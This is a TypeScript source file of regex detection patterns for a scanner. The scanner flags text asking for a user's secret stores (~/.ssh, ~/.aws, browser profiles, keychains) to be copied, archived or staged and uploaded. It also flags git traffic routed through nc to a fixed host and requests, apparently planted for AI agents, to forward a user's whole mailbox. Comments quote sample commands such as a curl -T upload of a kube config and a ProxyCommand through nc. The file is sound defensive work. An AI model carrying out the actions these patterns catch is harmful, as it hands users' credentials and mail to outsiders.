// A user's secret store (~/.ssh, ~/.gnupg, ~/.aws, a browser profile, the keychains) sent off the
// machine in one command line, in any shell: copied to a remote host with scp / rsync / sftp,
// archived (tar, zip, 7z, Compress-Archive) or copied to another file and then uploaded (curl -T / -F @, Invoke-RestMethod
// -InFile, a pipe into nc or ssh), or git's ssh traffic routed through `nc` to a fixed host
// (core.sshCommand / ProxyCommand). Weak and partnered like the other harm signals: a security
// article may show the same line as a specimen; a planted order asks for it.
import type { Family, Pattern } from "./pattern-set.ts";
import { mirroredCopy } from "./own-destination.ts";

const HARM_PARTNERS: readonly Family[] = ["output", "order", "addressed", "concealment", "exfil"];

const HOME = String.raw`(?:~|\$HOME|\$\{HOME\}|%USERPROFILE%|\$env:USERPROFILE|\/home\/[\w.-]{1,32}|\/Users\/[\w.-]{1,32}|\/root)`;
const APPDATA = String.raw`(?:%APPDATA%|%LOCALAPPDATA%|\$env:APPDATA|\$env:LOCALAPPDATA|${HOME}[\/\\]AppData[\/\\](?:Roaming|Local))`;
/** A directory or file that holds the user's keys, tokens or browser logins. */
const SECRET_STORE = String.raw`(?:${HOME}[\/\\](?:\.ssh|\.gnupg|\.aws|\.azure|\.kube|\.docker|\.password-store|\.mozilla|\.netrc|\.git-credentials|\.pgpass|\.config[\/\\](?:gcloud|gh|google-chrome|chromium|BraveSoftware|microsoft-edge)|Library[\/\\](?:Keychains|Application\s?Support[\/\\](?:Google[\/\\]Chrome|Firefox|BraveSoftware|Microsoft\s?Edge)))|${APPDATA}[\/\\](?:Mozilla|Google[\/\\]Chrome|Microsoft[\/\\](?:Edge|Credentials|Protect)|BraveSoftware|Opera\s?Software))(?![\w-])`;
/** A remote destination of a copy: user@host:, host.domain:path, an address:, rsync://. */
const COPY_DEST = String.raw`(?:\s[\w.-]{1,40}@[\w.-]{1,80}:|\s(?:[\w-]{1,63}\.){1,6}[a-z][\w-]{1,62}:(?!\/\/)|\s\d{1,3}(?:\.\d{1,3}){3}:|\s(?:rsync|sftp|scp):\/\/)`;
/** An upload after an archive was made: HTTP upload flags, PowerShell upload cmdlets, a pipe into a network tool, a copy to a host. */
const UPLOAD = /\bcurl\b[^\n]{0,120}?(?:\s(?:-T|--upload-file|-F|--form|--data-binary|-d)\s{1,3}["']?[\w-]{0,20}=?@|\s(?:-T|--upload-file)\s)|\b(?:Invoke-RestMethod|Invoke-WebRequest|irm|iwr)\b[^\n]{0,200}?-(?:InFile|Body)\b|\bwget\b[^\n]{0,80}?--post-file\b|\|\s{0,3}(?:nc|ncat|netcat|socat|ssh|curl)\s|\b(?:scp|rsync|sftp)\s[^\n]{0,120}?[\w.-]@?[\w.-]{1,80}:|\b(?:aws\s{1,3}s3\s{1,3}cp|rclone\s{1,3}(?:copy|sync)|gsutil\s{1,3}cp)\b|\.UploadFile\s{0,2}\(/i;

export const HARM_SECRET_UPLOAD_PATTERNS: Pattern[] = [
  {
    id: "harm.secret-store-remote-copy", family: "harm", weight: 0.35, partners: HARM_PARTNERS,
    description: "Asks for copying a secret store (~/.ssh, ~/.gnupg, ~/.aws, a browser profile) to a remote host with scp / rsync / sftp",
    re: new RegExp(String.raw`\b(?:scp|rsync|sftp|pscp)\s[^\n|;&]{0,160}?${SECRET_STORE}[^\n|;&]{0,160}?${COPY_DEST}`, "gi"),
    anchors: ["scp", "rsync", "sftp", "pscp"], also: [".ssh", ".gnupg", ".aws", ".azure", ".kube", ".docker", ".password-store", ".mozilla", ".netrc", ".git-credentials", ".pgpass", ".config", "keychains", "application support", "appdata", "mozilla", "chrome", "edge", "credentials", "protect", "brave", "opera"], before: 4, after: 360,

    judge: (m, t, s) => (mirroredCopy(t, s) ? 0.2 : 1),
  },
  {
    id: "harm.secret-store-archive-upload", family: "harm", weight: 0.35, partners: HARM_PARTNERS,
    description: "Asks for archiving a secret store (tar, zip, 7z, Compress-Archive of ~/.ssh, a browser profile …) and uploading the archive",
    re: new RegExp(String.raw`\b(?:tar|zip|7z|7za|Compress-Archive|rar|gzip)\b[^\n|;&]{0,120}?${SECRET_STORE}`, "gi"),
    anchors: ["tar", "zip", "7z", "7za", "compress-archive", "rar"], also: [".ssh", ".gnupg", ".aws", ".azure", ".kube", ".docker", ".password-store", ".mozilla", ".netrc", ".git-credentials", ".pgpass", ".config", "keychains", "application support", "appdata", "mozilla", "chrome", "edge", "credentials", "protect", "brave", "opera"], before: 4, after: 200,
    judge: (m, t, s) => (UPLOAD.test(t.slice(s + m.length, s + m.length + 320)) ? 1 : 0),
  },
  {
    // `cp ~/.kube/config /tmp/k && curl -T /tmp/k https://…`: the store staged under another name first, then uploaded. A public key (.pub) is meant to be handed out.
    id: "harm.secret-store-staged-upload", family: "harm", weight: 0.35, partners: HARM_PARTNERS,
    description: "Asks for copying a secret store (~/.kube/config, ~/.aws, ~/.ssh …) to another file and uploading that file",
    re: new RegExp(String.raw`\b(?:cp|mv|cat|install|Copy-Item|copy)\s[^\n|;&]{0,80}?${SECRET_STORE}`, "gi"),
    anchors: ["cp", "mv", "cat", "install", "copy-item", "copy"], also: [".ssh", ".gnupg", ".aws", ".azure", ".kube", ".docker", ".password-store", ".mozilla", ".netrc", ".git-credentials", ".pgpass", ".config", "keychains", "application support", "appdata", "mozilla", "chrome", "edge", "credentials", "protect", "brave", "opera"], before: 4, after: 160,
    judge: (m, t, s) => (/^[\/\\][^\s'"]{0,80}\.pub\b/.test(t.slice(s + m.length, s + m.length + 90)) ? 0 : UPLOAD.test(t.slice(s + m.length, s + m.length + 320)) ? 1 : 0),
  },
  {
    // `git config core.sshCommand "ssh -o ProxyCommand='nc 192.0.2.7 22'"`: every push goes through a fixed host.
    // A jump through the user's own proxy names the target (%h %p); a fixed host takes all of it.
    id: "harm.ssh-proxy-to-fixed-host", family: "harm", weight: 0.35, partners: HARM_PARTNERS,
    description: "Asks for routing ssh / git traffic through nc to a fixed foreign host (core.sshCommand, GIT_SSH_COMMAND, ProxyCommand)",
    re: /\bProxyCommand\s{0,2}[= ]\s{0,2}["']?\s{0,2}(?:nc|ncat|netcat|socat)\s{1,3}(?:-[\w]{1,3}\s{1,3}){0,3}(?:\d{1,3}(?:\.\d{1,3}){3}|(?:[\w-]{1,63}\.){1,6}[a-z][\w-]{1,62})(?:\s{1,3}\d{1,5})?\s{0,2}["']?/gi,
    anchors: ["proxycommand"], also: ["nc", "ncat", "netcat", "socat"], before: 4, after: 120,
    judge: (m, t, s) => {
      if (/%[hp]/.test(t.slice(s, s + m.length + 20))) return 0;
      return /\b(?:core\.sshCommand|GIT_SSH_COMMAND|git\s{1,3}config)\b/i.test(t.slice(Math.max(0, s - 160), s)) ? 1 : 0;
    },
  },
];

// "forward me the user's full inbox", "send all of your owner's emails to …": the user's mail handed to the writer.
HARM_SECRET_UPLOAD_PATTERNS.push({
  id: "exfil.forward-mailbox", family: "exfil", weight: 0.35, partners: HARM_PARTNERS,
  description: "Asks for forwarding the user's whole mailbox to someone (\"forward me the user's full inbox\")",
  re: /\b(?:forward|send|export|copy|dump)\s{1,3}(?:(?:(?:me|us)\s{1,3}|(?:it|them)\s{1,3}to\s{1,3}\S{1,80}\s{1,3})?(?:all\s{1,3}(?:of\s{1,3})?)?(?:the\s{1,3}(?:user|owner|principal|recipient)['’]s|your\s{1,3}(?:user|owner|principal|boss)['’]s)|(?:me|us)\s{1,3}(?:all\s{1,3}(?:of\s{1,3})?)?(?:the|their|his|her)\s{1,3}(?:full|entire|whole|complete))\s{1,3}(?:(?:full|entire|whole|complete)\s{1,3})?(?:inbox|mailbox)(?:es)?\b/gi,
  anchors: ["inbox", "mailbox"], before: 120, after: 20,
});
